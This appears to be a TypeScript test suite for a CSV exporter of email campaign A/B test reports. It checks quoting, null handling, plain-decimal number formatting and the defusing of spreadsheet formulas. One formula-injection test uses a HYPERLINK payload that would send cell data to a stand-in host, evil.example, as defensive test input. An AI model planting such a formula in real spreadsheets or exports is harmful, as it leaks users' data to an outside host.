import { plainDecimal, programReportCsv, REPORT_CSV_COLUMNS } from './report-csv';
import type { ProgramReport } from './report-types';

function reportFixture(): ProgramReport {
  return {
    program: {
      id: '0b7f1c2e-5d3a-4c1b-9e8f-2a6d4c3b1a00',
      code: 'SPRING25',
      name: 'Spring sale 2025',
      channel: 'email',
      state: 'completed',
      launchedAt: '2025-03-03T08:00:00.000Z',
      attributionWindowDays: 14,
    },
    confidence: 0.95,
    currency: 'EUR',
    generatedAt: '2025-03-24T06:30:12.000Z',
    waterfall: [
      { step: 'select', remaining: 26140, removed: 0 },
      { step: 'no address', remaining: 25210, removed: 930 },
      { step: 'no consent', remaining: 23480, removed: 1730 },
      { step: 'dedupe', remaining: 23301, removed: 179 },
      { step: 'unsubscribed', remaining: 22540, removed: 761 },
      { step: 'frequency cap', remaining: 22000, removed: 540 },
      { step: 'sample', remaining: 22000, removed: 0 },
      { step: 'split', remaining: 22000, removed: 0 },
    ],
    cells: [
      {
        code: 'A',
        name: '20% off banner',
        isControl: false,
        responseCode: 'SPR-A',
        members: 10000,
        contacted: 10000,
        delivered: 9800,
        bounced: 200,
        opens: 4200,
        opensHuman: 3100,
        clicks: 620,
        clicksHuman: 540,
        unsubscribes: 35,
        complaints: 2,
        conversions: 310,
        conversionEvents: 345,
        revenue: 1534500,
        revenuePerMember: 153.45,
        conversionRate: 0.031,
        conversionRateCi: [0.0278, 0.0345],
        openRate: 0.3163,
        openRateCi: [0.3071, 0.3256],
        clickRate: 0.0551,
        clickRateCi: [0.0507, 0.0598],
      },
      {
        code: 'B',
        name: 'Free shipping',
        isControl: false,
        responseCode: 'SPR-B',
        members: 10000,
        contacted: 10000,
        delivered: 9790,
        bounced: 210,
        opens: 4100,
        opensHuman: 2950,
        clicks: 480,
        clicksHuman: 410,
        unsubscribes: 41,
        complaints: 1,
        conversions: 215,
        conversionEvents: 230,
        revenue: 1011250,
        revenuePerMember: 101.125,
        conversionRate: 0.0215,
        conversionRateCi: [0.0188, 0.0245],
        openRate: 0.3013,
        openRateCi: [0.2923, 0.3105],
        clickRate: 0.0419,
        clickRateCi: [0.038, 0.0461],
      },
      {
        code: 'CTRL',
        name: 'Hold-out',
        isControl: true,
        responseCode: 'SPR-C',
        members: 2000,
        contacted: 0,
        delivered: 0,
        bounced: 0,
        opens: 0,
        opensHuman: 0,
        clicks: 0,
        clicksHuman: 0,
        unsubscribes: 0,
        complaints: 0,
        conversions: 48,
        conversionEvents: 50,
        revenue: 230000,
        revenuePerMember: 115,
        conversionRate: 0.024,
        conversionRateCi: [0.0181, 0.0317],
        openRate: null,
        openRateCi: null,
        clickRate: null,
        clickRateCi: null,
      },
    ],
    comparisons: [
      {
        cell: 'A',
        against: 'CTRL',
        metric: 'conversionRate',
        absoluteLift: 0.007,
        relativeLift: 0.2916666666666667,
        ci: [0.0001, 0.0139],
        relativeCi: [0.004, 0.58],
        pValue: 0.0000003,
        adjustedPValue: 0.0000006,
        significant: true,
        test: 'two-proportion z',
        smallSample: false,
      },
      {
        cell: 'B',
        against: 'CTRL',
        metric: 'conversionRate',
        absoluteLift: -0.0025,
        relativeLift: -0.10416666666666667,
        ci: [-0.0098, 0.0048],
        relativeCi: null,
        pValue: 0.4983,
        adjustedPValue: 0.4983,
        significant: false,
        test: 'two-proportion z',
        smallSample: false,
      },
    ],
    overall: { test: 'chi-square', statistic: 19.87, df: 2, pValue: 0.0000485, smallSample: false },
    verdict:
      'Cell A converts better than the control: +0.70 points (95% interval +0.01 to +1.39), p < 0.001 after Holm.',
  };
}

/** A minimal RFC 4180 parser (quoted fields, doubled quotes, CRLF records) to read the output back. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        field += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && csv[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += ch;
    }
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

function records(csv: string): Record<string, string>[] {
  const [header, ...rows] = parse(csv);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

describe('programReportCsv', () => {
  it('writes a header, one row per cell then one per comparison, CRLF-terminated', () => {
    const csv = programReportCsv(reportFixture());
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(1 + 3 + 2 + 1);
    expect(lines[0]).toBe(
      'row,code,name,isControl,responseCode,members,contacted,delivered,bounced,opens,opensHuman,clicks,clicksHuman,' +
        'unsubscribes,complaints,conversions,conversionEvents,revenue,revenuePerMember,conversionRate,conversionRateLow,' +
        'conversionRateHigh,openRate,clickRate,cell,against,metric,absoluteLift,relativeLift,ciLow,ciHigh,pValue,' +
        'adjustedPValue,significant,test,smallSample',
    );
    const rows = parse(csv);
    for (const r of rows) expect(r).toHaveLength(REPORT_CSV_COLUMNS.length);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['cell', 'cell', 'cell', 'comparison', 'comparison']);
  });

  it('gives the exact figures of cells and comparisons', () => {
    const [a, b, ctrl, vsA, vsB] = records(programReportCsv(reportFixture()));
    expect(a).toMatchObject({
      code: 'A',
      name: '20% off banner',
      isControl: 'false',
      responseCode: 'SPR-A',
      members: '10000',
      delivered: '9800',
      opensHuman: '3100',
      conversions: '310',
      revenue: '1534500',
      revenuePerMember: '153.45',
      conversionRate: '0.031',
      conversionRateLow: '0.0278',
      conversionRateHigh: '0.0345',
      openRate: '0.3163',
      cell: '',
      pValue: '',
    });
    expect(b.revenuePerMember).toBe('101.125');
    expect(ctrl).toMatchObject({ code: 'CTRL', isControl: 'true', contacted: '0', conversions: '48' });
    expect(vsA).toMatchObject({
      row: 'comparison',
      code: '',
      members: '',
      cell: 'A',
      against: 'CTRL',
      metric: 'conversionRate',
      absoluteLift: '0.007',
      relativeLift: '0.2916666666666667',
      ciLow: '0.0001',
      ciHigh: '0.0139',
      pValue: '0.0000003',
      adjustedPValue: '0.0000006',
      significant: 'true',
      test: 'two-proportion z',
      smallSample: 'false',
    });
    expect(vsB.significant).toBe('false');
  });

  it('keeps negative numbers numeric (no apostrophe) and never uses exponents', () => {
    const csv = programReportCsv(reportFixture());
    const vsB = records(csv)[4];
    expect(vsB.absoluteLift).toBe('-0.0025');
    expect(vsB.relativeLift).toBe('-0.10416666666666667');
    expect(vsB.ciLow).toBe('-0.0098');
    expect(csv).toContain(',-0.0025,-0.10416666666666667,-0.0098,0.0048,');
    expect(csv).not.toContain("'-");
    expect(csv).not.toMatch(/\de[-+]?\d/i);
  });

  it('leaves nulls empty', () => {
    const report = reportFixture();
    report.comparisons[1] = {
      ...report.comparisons[1],
      relativeLift: null,
      pValue: null,
      adjustedPValue: null,
      smallSample: true,
    };
    const [, , ctrl, , vsB] = records(programReportCsv(report));
    expect(ctrl.openRate).toBe('');
    expect(ctrl.clickRate).toBe('');
    expect(vsB).toMatchObject({ relativeLift: '', pValue: '', adjustedPValue: '', smallSample: 'true' });
  });

  it('defuses formulas in every text value with the core helper', () => {
    const report = reportFixture();
    report.cells[1].name = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
    report.cells[1].responseCode = '+SPR-B';
    report.cells[2].code = '@ctrl';
    report.comparisons[1].against = '@ctrl';
    report.comparisons[1].test = '-z';
    const csv = programReportCsv(report);
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",`);
    const [, b, ctrl, , vsB] = records(csv);
    expect(b.name).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"Open")`);
    expect(b.responseCode).toBe("'+SPR-B");
    expect(ctrl.code).toBe("'@ctrl");
    expect(vsB.against).toBe("'@ctrl");
    expect(vsB.test).toBe("'-z");
    expect(vsB.absoluteLift).toBe('-0.0025');
  });

  it('quotes text with commas, quotes and line breaks', () => {
    const report = reportFixture();
    report.cells[0].name = 'Big, "bold"\r\nbanner';
    const [a] = records(programReportCsv(report));
    expect(a.name).toBe('Big, "bold"\r\nbanner');
  });

  it('writes an empty report as the header alone', () => {
    const report = { ...reportFixture(), cells: [], comparisons: [] };
    expect(programReportCsv(report).split('\r\n')).toHaveLength(2);
  });
});

describe('plainDecimal', () => {
  it.each([
    [0, '0'],
    [-0, '0'],
    [42, '42'],
    [-0.012, '-0.012'],
    [1e-7, '0.0000001'],
    [-1.5e-7, '-0.00000015'],
    [1.234e-10, '0.0000000001234'],
    [1e21, '1000000000000000000000'],
    [1.5e22, '15000000000000000000000'],
    [NaN, ''],
    [Infinity, ''],
  ])('%p -> %p', (n, text) => {
    expect(plainDecimal(n)).toBe(text);
    if (text) expect(Number(text)).toBe(n === 0 ? 0 : n);
  });
});
